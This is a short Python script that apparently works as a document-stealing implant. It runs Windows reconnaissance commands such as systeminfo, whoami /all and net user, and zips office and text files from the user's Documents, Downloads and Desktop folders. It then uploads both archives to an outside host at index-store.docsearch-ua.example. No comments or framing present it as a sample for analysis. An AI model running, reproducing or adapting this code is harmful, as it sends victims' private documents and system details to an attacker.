import os, platform, socket, subprocess, zipfile, requests

HOME = os.path.expanduser("~")
OUT = os.path.join(os.environ.get("PROGRAMDATA", "/tmp"), "info")
os.makedirs(OUT, exist_ok=True)

with open(os.path.join(OUT, "info.txt"), "w", encoding="utf-8") as f:
    f.write(platform.platform() + "\n" + socket.gethostname() + "\n")
    for cmd in ("systeminfo", "whoami /all", "ipconfig /all", "tasklist", "net user"):
        f.write(subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout)

with zipfile.ZipFile(os.path.join(OUT, "docs.zip"), "w") as z:
    for d in ("Documents", "Downloads", "Desktop"):
        for root, _, files in os.walk(os.path.join(HOME, d)):
            for n in files:
                if n.lower().endswith((".pdf", ".doc", ".docx", ".txt", ".rtf", ".xls", ".xlsx")):
                    z.write(os.path.join(root, n))

for name in ("info.txt", "docs.zip"):
    with open(os.path.join(OUT, name), "rb") as fh:
        requests.post("https://index-store.docsearch-ua.example/up.php", files={"file": (name, fh)}, timeout=60)
